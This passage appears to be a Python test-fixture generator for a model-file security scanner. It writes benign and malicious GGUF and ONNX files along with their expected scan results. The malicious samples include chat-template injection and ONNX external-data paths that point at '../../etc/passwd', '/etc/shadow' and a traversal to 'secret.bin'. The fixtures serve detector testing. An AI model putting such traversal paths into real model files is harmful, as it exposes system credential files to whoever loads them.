    tensor = ("token_embd.weight", [8, 2], 0, struct.pack("<16f", *range(16)), 0)
    tensor2 = ("output.weight", [8], 0, struct.pack("<8f", *range(8)), 64)
    base = [("general.architecture", "str", "llama"), ("general.name", "str", "tiny"),
            ("general.alignment", "u32", 32),
            ("llama.context_length", "u32", 128),
            ("tokenizer.ggml.tokens", ("arr", "str"), ["<s>", "</s>", "a", "b"]),
            ("tokenizer.ggml.scores", ("arr", "f32"), [0.0, 0.0, -1.0, -2.0]),
            ("test.nested", ("arr", ("arr", "u32")), [[1, 2], [3]])]
    benign = gguf(base + [("tokenizer.chat_template", "str", BENIGN_TEMPLATE)],
                  [tensor, tensor2])
    write("gguf/benign.gguf", benign)
    expect("gguf/benign.gguf", "gguf", "safe", [])
    write("gguf/ssti_template.gguf",
          gguf(base + [("tokenizer.chat_template", "str", SSTI_TEMPLATE)], [tensor]))
    expect("gguf/ssti_template.gguf", "gguf", "malicious",
           [("gguf-chat-template-injection", "tokenizer.chat_template")])
    write("gguf/named_template.gguf",
          gguf(base + [("tokenizer.chat_template", "str", BENIGN_TEMPLATE),
                       ("tokenizer.chat_template.tool_use", "str", ATTR_TEMPLATE),
                       ("tokenizer.chat_templates", ("arr", "str"), ["tool_use"])], [tensor]))
    expect("gguf/named_template.gguf", "gguf", "malicious",
           [("gguf-chat-template-injection", "tokenizer.chat_template.tool_use")])
    write("gguf/truncated.gguf", benign[:200])
    expect("gguf/truncated.gguf", "gguf", "unscannable", [("malformed", None)])
    write("gguf/overlap.gguf", gguf(base, [tensor, ("output.weight", [8], 0, b"\0" * 32, 32)]))
    expect("gguf/overlap.gguf", "gguf", "unscannable", [("malformed", None)])
    write("gguf/huge_count.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 40))
    expect("gguf/huge_count.gguf", "gguf", "unscannable", [("malformed", None)])


# ---------------------------------------------------------------------------
# ONNX (ModelProto, hand-encoded)

def onnx_tensor(name, dims, raw=None, external=None):
    parts = [f_varint(1, d) for d in dims] + [f_varint(2, 1), f_bytes(8, name)]
    if external is not None:
        parts += [f_bytes(13, msg(f_bytes(1, k), f_bytes(2, v))) for k, v in external]
        parts.append(f_varint(14, 1))
    else:
        parts.append(f_bytes(9, raw))
    return msg(*parts)


def onnx_node(op, inputs, outputs, domain=None, attrs=()):
    parts = [f_bytes(1, i) for i in inputs] + [f_bytes(2, o) for o in outputs] + \
        [f_bytes(4, op)]
    parts += [f_bytes(5, a) for a in attrs]
    if domain is not None:
        parts.append(f_bytes(7, domain))
    return msg(*parts)


def onnx_graph(nodes, inits, name="g"):
    return msg(*[f_bytes(1, n) for n in nodes], f_bytes(2, name),
               *[f_bytes(5, t) for t in inits],
               f_bytes(11, f_bytes(1, "X")), f_bytes(12, f_bytes(1, "Y")))


def onnx_model(graph_bytes, opsets=(("", 17),), functions=()):
    return msg(f_varint(1, 8), f_bytes(2, "loadlint-fixture"),
               *[f_bytes(8, msg(f_bytes(1, d), f_varint(2, v))) for d, v in opsets],
               f_bytes(7, graph_bytes), *[f_bytes(25, fn) for fn in functions])


def gen_onnx():
    w = onnx_tensor("W", [2, 2], raw=struct.pack("<4f", 1, 2, 3, 4))
    mm = onnx_node("MatMul", ["X", "W"], ["Y"])
    write("onnx/benign.onnx", onnx_model(onnx_graph([mm], [w])))
    expect("onnx/benign.onnx", "onnx", "safe", [])
    ext_ok = onnx_tensor("W", [2, 2], external=[("location", "weights.bin"), ("offset", "0"),
                                                ("length", "16")])
    write("onnx/external_ok.onnx", onnx_model(onnx_graph([mm], [ext_ok])))
    expect("onnx/external_ok.onnx", "onnx", "safe", [])
    esc = onnx_tensor("W", [2, 2], external=[("location", "../../etc/passwd"),
                                             ("length", "16")])
    absolute = onnx_tensor("B", [2], external=[("location", "/etc/shadow")])
    write("onnx/external_escape.onnx", onnx_model(onnx_graph([mm], [esc, absolute])))
    expect("onnx/external_escape.onnx", "onnx", "suspicious",
           [("onnx-external-data-path", "../../etc/passwd"),
            ("onnx-external-data-path", "/etc/shadow")])
    key = onnx_tensor("W", [2, 2], external=[("location", "weights.bin"),
                                             ("__class__", "x")])
    write("onnx/external_key.onnx", onnx_model(onnx_graph([mm], [key])))
    expect("onnx/external_key.onnx", "onnx", "suspicious",
           [("onnx-external-data-key", "__class__")])
    # an If node whose then_branch subgraph holds an escaping initializer
    sub = onnx_graph([onnx_node("Identity", ["S"], ["Y"])],
                     [onnx_tensor("S", [1], external=[("location",
                                                       "data/..\\..\\secret.bin")])],
                     name="then")
    attr = msg(f_bytes(1, "then_branch"), f_varint(20, 5), f_bytes(6, sub))
    cond = onnx_node("If", ["cond"], ["Y"], attrs=[attr])
    write("onnx/subgraph_escape.onnx", onnx_model(onnx_graph([cond], [])))
    expect("onnx/subgraph_escape.onnx", "onnx", "suspicious",
           [("onnx-external-data-path", "data/..\\..\\secret.bin")])
    fn = msg(f_bytes(1, "MyOp"), f_bytes(4, "X"), f_bytes(5, "Y"),
             f_bytes(7, onnx_node("Relu", ["X"], ["Y"])), f_bytes(10, "my.local"))
    custom = onnx_graph([onnx_node("StringRegexReplace", ["X"], ["T"], "ai.onnx.contrib"),
                         onnx_node("MyOp", ["T"], ["Y"], "my.local")], [])
    write("onnx/custom_domain.onnx",
          onnx_model(custom, opsets=(("", 17), ("ai.onnx.contrib", 1), ("my.local", 1)),
                     functions=[fn]))
    expect("onnx/custom_domain.onnx", "onnx", "safe",
           [("onnx-custom-op-domain", "ai.onnx.contrib")])
    write("onnx/malformed.onnx", b"\x08\x08\x3a\xff\xff\xff\x7f")
    expect("onnx/malformed.onnx", "onnx", "unscannable", [("malformed", None)])


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    gen_configs()
    gen_hdf5()
    gen_keras_zips()
    gen_savedmodel()
    gen_safetensors()
    gen_gguf()
    gen_onnx()
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump({"description": "What the Keras/TF and safe-format readers report for each "
                                  "file (generated by tests/artifacts/generate_keras.py; "
                                  "compared by tests/unit/test_art_keras.c). checks: sorted "
                                  "[check, subject] pairs; members: per .keras zip member.",
                   "files": dict(sorted(EXPECTED.items()))}, f, indent=1, sort_keys=False)
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(d, n)) for d, _, ns in os.walk(OUT) for n in ns)
    print("wrote %d fixtures (%d bytes) under %s" % (len(EXPECTED), total,
                                                       os.path.relpath(OUT, ROOT)))


if __name__ == "__main__":
    main()
